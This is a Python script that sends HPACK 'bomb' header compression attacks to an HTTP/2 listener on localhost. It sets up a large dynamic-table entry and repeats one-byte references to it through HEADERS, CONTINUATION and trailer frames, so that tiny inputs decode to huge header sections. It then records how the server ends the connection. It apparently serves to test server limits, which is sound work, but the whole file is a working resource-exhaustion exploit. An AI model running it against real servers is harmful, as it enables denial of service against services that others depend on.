"""Sends HPACK bombs to a cleartext HTTP/2 listener at 127.0.0.1:PORT: few bytes that stand for many.

    hpack_bomb.py PORT [SHAPE] [--seconds S] [--frames N] [--again]

Ends with the connection, or with the first of the two bounds, and prints one line of JSON: what was sent, what it
decodes to, and how the connection ended. With `--again` it connects anew when its connection was ended, until its time
is up, and the line holds the sums. Shapes:

    frame         one request a frame of 16 KiB, every byte of which is a field of 4 KB (the default)
    continuation  the same in one request's CONTINUATION frames
    trailers      the same in trailers
    over          requests whose sections each decode to just above 60 KiB
    within        requests of about 20 bytes whose sections decode to just below 60 KiB
"""

import argparse
import json
import socket
import struct
import time

FRAME_BYTES = 16384
# Name, value and 32 bytes fill the dynamic table of 4,096 bytes: the entry is index 62, one byte on the wire.
ENTRY_BYTES = 4096
VALUE = b"v" * (ENTRY_BYTES - 32 - 1)
INDEXED = b"\xbe"
# :method POST, :scheme http, :path /, :authority a; nothing of it goes into the table, which is full.
HEAD = b"\x83\x86\x84\x01\x01a"
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
# Requests that wait for their answers: a listener allows 100, and more would end the connection.
STREAMS_MAX = 50


def integer(value: int, prefix: int) -> bytes:
    """An integer behind a prefix of so many bits, the others zero (RFC 7541, section 5.1)."""
    top = (1 << prefix) - 1
    if value < top:
        return bytes([value])
    encoded, value = bytearray([top]), value - top
    while value >= 128:
        encoded.append(value & 127 | 128)
        value >>= 7
    return bytes(encoded + bytes([value]))


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def frames(shape: str):
    """Endless: one frame, and what its fields decode to."""
    define = b"\x40\x01x" + integer(len(VALUE), 7) + VALUE
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, HEAD + define), ENTRY_BYTES
    full, stream = INDEXED * (FRAME_BYTES - len(HEAD)), 3
    if shape == "continuation":
        yield frame(HEADERS, END_STREAM, stream, HEAD + full), len(full) * ENTRY_BYTES
        while True:
            yield frame(CONTINUATION, 0, stream, INDEXED * FRAME_BYTES), FRAME_BYTES * ENTRY_BYTES
    block = {"over": INDEXED * 15, "within": INDEXED * 14}.get(shape, full)
    while True:
        if shape == "trailers":
            yield frame(HEADERS, END_HEADERS, stream, HEAD), 0
            yield frame(HEADERS, END_HEADERS | END_STREAM, stream, INDEXED * FRAME_BYTES), FRAME_BYTES * ENTRY_BYTES
        else:
            yield frame(HEADERS, END_HEADERS | END_STREAM, stream, HEAD + block), len(block) * ENTRY_BYTES
        stream += 2


class Peer:
    """What the peer says: how many streams it has ended, and how it ends the connection."""

    def __init__(self):
        self.unread = b""
        self.streams_ended = 0
        self.code = None
        self.closed = False

    @property
    def has_ended(self) -> bool:
        return self.code is not None or self.closed

    def read(self, connection: socket.socket, wait: float) -> None:
        connection.settimeout(wait)
        try:
            data = connection.recv(1 << 16)
        except (TimeoutError, BlockingIOError):
            return
        except OSError:
            self.closed = True
            return
        self.closed = not data
        self.unread += data
        while len(self.unread) >= 9:
            end = 9 + int.from_bytes(self.unread[:3], "big")
            if len(self.unread) < end:
                return
            kind, flags = self.unread[3], self.unread[4]
            if kind == GOAWAY:
                self.code = int.from_bytes(self.unread[13:17], "big")
            if kind == RST_STREAM or (kind in (DATA, HEADERS) and flags & END_STREAM):
                self.streams_ended += 1
            self.unread = self.unread[end:]


def attack(port: int, shape: str, frames_max: int, deadline: float) -> dict:
    """One connection, as long as it lasts and no further than the two bounds."""
    connection = socket.create_connection(("127.0.0.1", port), timeout=5)
    connection.sendall(
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0)
        # All answers together fit into the connection's window.
        + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535)))
    peer = Peer()
    sent = wire = decoded = streams = 0
    for bytes_, worth in frames(shape):
        if sent >= frames_max or time.monotonic() >= deadline:
            break
        try:
            connection.settimeout(5)
            connection.sendall(bytes_)
        except OSError:
            peer.closed = True
            break
        sent, wire, decoded = sent + 1, wire + len(bytes_), decoded + worth
        streams += bytes_[3] == HEADERS and bool(bytes_[4] & END_STREAM)
        peer.read(connection, 0)
        while streams - peer.streams_ended >= STREAMS_MAX and not peer.has_ended and time.monotonic() < deadline:
            peer.read(connection, 0.1)
        if peer.has_ended:
            break
    if not peer.has_ended:
        peer.read(connection, 0.5)
    connection.close()
    return {"connections": 1, "frames": sent, "wire_bytes": wire, "decoded_bytes": decoded,
            "requests_answered": peer.streams_ended, "closed": int(peer.closed), "goaway_code": peer.code}


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("port", type=int)
    parser.add_argument("shape", nargs="?", default="frame", choices=["frame", "continuation", "trailers", "over", "within"])
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--frames", type=int, default=100_000)
    parser.add_argument("--again", action="store_true")
    options = parser.parse_args()

    began = time.monotonic()
    deadline = began + options.seconds
    total = attack(options.port, options.shape, options.frames, deadline)
    while options.again and time.monotonic() < deadline and total["frames"] < options.frames:
        one = attack(options.port, options.shape, options.frames - total["frames"], deadline)
        total = {key: one[key] if key == "goaway_code" else total[key] + one[key] for key in total}
    print(json.dumps({"shape": options.shape, "seconds": round(time.monotonic() - began, 3), **total}))


main()
